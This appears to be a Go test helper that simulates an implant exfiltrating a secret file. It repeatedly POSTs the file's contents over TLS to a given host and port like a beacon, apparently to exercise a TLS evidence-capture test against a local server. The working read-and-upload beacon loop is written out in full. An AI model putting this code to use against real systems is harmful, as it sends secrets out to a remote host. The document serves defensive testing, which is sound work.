// SPDX-License-Identifier: Apache-2.0

// tlsclient: an implant's exfiltration over HTTPS, for the TLS evidence test
// (tests/e2e/t4004-evidence-tls.sh). It reads a secret file and POSTs it with Go's crypto/tls
// to a server whose certificate it trusts through a CA file, COUNT times, INTERVAL_MS apart
// (a new connection each time, as a beacon does).
//
//	tlsclient CAFILE SECRET HOST:PORT COUNT INTERVAL_MS
package main

import (
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"os"
	"strconv"
	"time"
)

func post(cfg *tls.Config, addr string, secret []byte) error {
	c, err := tls.Dial("tcp", addr, cfg)
	if err != nil {
		return err
	}
	defer c.Close()
	head := fmt.Sprintf("POST /upload HTTP/1.0\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", addr, len(secret))
	if _, err := c.Write([]byte(head)); err != nil {
		return err
	}
	if _, err := c.Write(secret); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, io.LimitReader(c, 1<<20))
	return err
}

func main() {
	if len(os.Args) != 6 {
		fmt.Fprintln(os.Stderr, "usage: tlsclient CAFILE SECRET HOST:PORT COUNT INTERVAL_MS")
		os.Exit(2)
	}
	ca, err := os.ReadFile(os.Args[1])
	if err != nil {
		panic(err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(ca) {
		panic("no certificate in " + os.Args[1])
	}
	count, _ := strconv.Atoi(os.Args[4])
	ms, _ := strconv.Atoi(os.Args[5])
	cfg := &tls.Config{RootCAs: pool, ServerName: "127.0.0.1"}
	for i := 0; i < count; i++ {
		// read each time, as a beacon re-reads a rotating token
		secret, err := os.ReadFile(os.Args[2])
		if err != nil {
			panic(err)
		}
		if err := post(cfg, os.Args[3], secret); err != nil {
			fmt.Fprintln(os.Stderr, "tlsclient:", err)
			os.Exit(1)
		}
		time.Sleep(time.Duration(ms) * time.Millisecond)
	}
}
